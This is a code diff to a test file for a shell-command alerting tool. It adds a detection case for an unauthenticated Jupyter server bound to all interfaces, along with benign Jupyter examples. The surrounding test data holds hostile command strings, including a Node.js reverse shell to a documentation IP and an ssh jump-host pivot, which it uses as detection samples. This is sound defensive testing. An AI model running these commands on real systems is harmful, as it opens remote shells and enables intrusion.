@@ -63,6 +63,7 @@ def test_fetched_data_not_run(command):
     ("ssh -o ProxyCommand='ssh -W %h:%p jump@203.0.113.7' root@10.0.0.9", "ssh_dynamic_or_local_forward"),
     ("node -e \"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/bash',['-i']);var c=net.createConnection(9001,'198.51.100.20',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})\"", 'reverse_shell_interpreter'),
     ("socat TCP-LISTEN:7000,bind=0.0.0.0,fork TCP:10.0.0.5:22", "netcat_listener"),
+    ("jupyter notebook --ip=0.0.0.0 --NotebookApp.token= --allow-root", 'notebook_server_exposed'),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -77,6 +78,8 @@ def test_detected(command, rule):
     "printf 'server_addr = 10.0.0.5\\nworkers = 4\\n' > app.ini",
     "node -e \"require('child_process').execSync('npm test', {stdio: 'inherit'})\"",
     "node -e \"const net = require('net'); net.createServer(s => s.end('ok')).listen(8080)\"",
+    "jupyter lab --ip=0.0.0.0 --port=8888 --no-browser",
+    "jupyter lab --ServerApp.token= --port 8888",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
